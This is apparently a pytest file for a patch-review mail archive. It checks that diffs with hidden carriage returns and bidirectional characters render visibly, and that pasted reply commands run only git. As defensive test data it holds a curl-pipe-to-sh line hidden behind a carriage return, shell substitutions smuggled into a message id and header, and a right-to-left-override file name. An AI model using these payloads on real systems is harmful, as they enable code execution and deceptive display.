# SPDX-License-Identifier: AGPL-3.0-or-later
"""Pages show the text that gets applied, and commands that are safe to paste.

The mail is tests/data/display/ (README there): carriage returns, controls,
zero-width and bidirectional characters in diffs, subjects, names and file
names, and shell syntax in the values of the reply command.
"""

from __future__ import annotations

import html
import re
import subprocess
from pathlib import Path

import pytest

from archive.invisible import CODE
from tests.conftest import DATA
from tests.shown import hunk_lines, shown_diff_rows, unmark

pytestmark = pytest.mark.django_db

LIST = "display"
CR_LINE = "+b = 2  # harmless\r+os.system('curl evil|sh')"
BIDI_NAME = "add safe\u202ec.sh helper"
SHELL_MSGID = "q1'$(touch${IFS}pwned)'@evil.example"


@pytest.fixture
def display(ingest_file) -> None:
    import importlib

    from django.apps import apps

    importlib.import_module("reviews.migrations.0002_default_states").add_states(apps, None)
    for mbox in sorted((DATA / "display").glob("*.mbox")):
        ingest_file(mbox)


def _patch(msgid: str):
    from reviews.models import Patch

    return Patch.objects.select_related("project", "message").get(message__msgid=msgid)


def _get(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, url
    return response.content.decode()


def _pre(page: str, css: str) -> list[str]:
    return re.findall(rf'<pre class="{css}">(.*?)</pre>', page, re.S)


@pytest.mark.parametrize(
    "msgid",
    [
        "cr-inside-added-line@evil.example",
        "invisible-chars-in-diff@evil.example",
        "bidi-trojan-source@evil.example",
        "range-diff-patch@evil.example",
    ],
)
def test_patch_page_shows_every_stored_line(display, client, msgid: str) -> None:
    from reviews import links

    patch = _patch(msgid)
    page = _get(client, links.patch_url(patch.project.link_name, patch.message.msgid))
    assert shown_diff_rows(page) == hunk_lines(patch.diff)
    diff_html = page[
        page.index('<section class="diff"') : page.index('<section class="discussion"')
    ]
    assert CODE.search(diff_html) is None


def test_carriage_return_line_is_one_row_on_the_patch_page(display, client) -> None:
    from reviews import links

    patch = _patch("cr-inside-added-line@evil.example")
    page = _get(client, links.patch_url(patch.project.link_name, patch.message.msgid))
    assert "\r" not in page
    rows = shown_diff_rows(page)
    assert rows.count(CR_LINE) == 1  # the tools/setup.py row, coloured by Pygments
    assert rows[rows.index(CR_LINE) + 4] == " e = 5"


def test_archive_pages_show_the_diff_lines(display, client) -> None:
    from archive.models import Message
    from reviews import links

    message = Message.objects.get(msgid="cr-inside-added-line@evil.example")
    base = links.message_url(LIST, message.msgid)
    for url in (base, base + "T/", base + "t/"):
        page = _get(client, url)
        assert "\r" not in page, url
        body = unmark(_pre(page, "pi-body")[0])
        assert body.split("\n") == message.body.split("\n"), url


def test_cover_letter_range_diff_keeps_its_lines(display, client) -> None:
    from reviews import links
    from reviews.models import Cover

    cover = Cover.objects.select_related("message", "series", "project").get()
    link = cover.project.link_name
    for url in (
        links.cover_url(link, cover.message.msgid),
        links.series_url(link, cover.series.id),
    ):
        page = _get(client, url)
        assert "\r" not in page, url
        assert "    +" + CR_LINE in unmark(page).split("\n"), url  # a range-diff line


def test_bidi_controls_in_names_are_isolated_on_every_page(display, client) -> None:
    from archive.models import Person
    from reviews import links

    patch = _patch("bidi-trojan-source@evil.example")
    name = f"<bdi>{BIDI_NAME}</bdi>"
    sender = Person.objects.get(name__contains="\u202e")
    pages = {
        links.patch_list_url(patch.project.link_name): name,
        links.patch_url(patch.project.link_name, patch.message.msgid): name,
        links.series_url(patch.project.link_name, patch.series_id): name,
        links.person_url(sender.id): f"<bdi>{html.escape(sender.name)}</bdi>",
    }
    subject = f"<bdi>{html.escape(patch.message.subject)}</bdi>"
    message = links.message_url(LIST, patch.message.msgid)
    pages |= {message: subject, message + "T/": subject, f"/{LIST}/": subject}
    pages[f"/{LIST}/?q=helper"] = subject
    for url, shown in pages.items():
        page = _get(client, url)
        assert shown in page, url
        # Outside <bdi> and <title> no bidirectional control is left to leak.
        outside = re.sub(r"<bdi>.*?</bdi>|<title>.*?</title>", "", page, flags=re.S)
        assert "\u202e" not in outside, url


def test_bidi_file_name_is_marked_on_the_patch_page(display, client) -> None:
    from reviews import links

    patch = _patch("bidi-trojan-source@evil.example")
    page = _get(client, links.patch_url(patch.project.link_name, patch.message.msgid))
    marked = (
        '<bdi>safe<span class="ctrl bidi" title="U+202E RIGHT-TO-LEFT OVERRIDE">'
        "&lt;U+202E&gt;</span>c.sh</bdi>"
    )
    assert page.count(marked) == 2  # the diffstat and the file's heading


def _reply_command(page: str) -> str:
    reply = page[page.index('id="reply"') :]
    return unmark(re.search(r"<pre>(.*?)</pre>", reply, re.S).group(1))


def test_reply_command_runs_nothing_but_git_when_pasted(display, client, tmp_path: Path) -> None:
    from archive.models import Message
    from reviews import links

    message = Message.objects.select_related("author").get(msgid=SHELL_MSGID)
    command = _reply_command(_get(client, links.message_url(LIST, message.msgid)))
    # A fake git records its arguments; the pasted command runs in a scratch folder.
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    git = bin_dir / "git"
    git.write_text('#!/bin/sh\nfor a in "$@"; do printf \'%s\\0\' "$a"; done > "$ARGV_FILE"\n')
    git.chmod(0o755)
    argv_file = tmp_path / "argv"
    subprocess.run(
        ["bash", "-c", command],
        cwd=tmp_path,
        env={"PATH": f"{bin_dir}:/usr/bin:/bin", "ARGV_FILE": str(argv_file)},
        check=True,
        timeout=10,
    )
    assert not list(tmp_path.glob("pwned*")), "the pasted command ran a substitution"
    argv = argv_file.read_bytes().decode().split("\0")[:-1]
    assert argv == [
        "send-email",
        f"--in-reply-to={SHELL_MSGID}",
        f"--to={message.author.email}",
        f"--cc={message.to}, {message.cc}",
        "/path/to/YOUR_REPLY",
    ]
    assert "`" in message.author.email and "$(" in message.to  # the values were hostile


def test_reply_command_shows_invisible_characters_as_markers() -> None:
    from types import SimpleNamespace

    from archive.views.messages import reply_command

    message = SimpleNamespace(msgid="a\u202e'b@x", author=None, to="list@x\r; touch pwned", cc="")
    html_text = str(reply_command(message))
    assert "\u202e" not in html_text and "\r" not in html_text
    assert 'title="U+202E RIGHT-TO-LEFT OVERRIDE"' in html_text
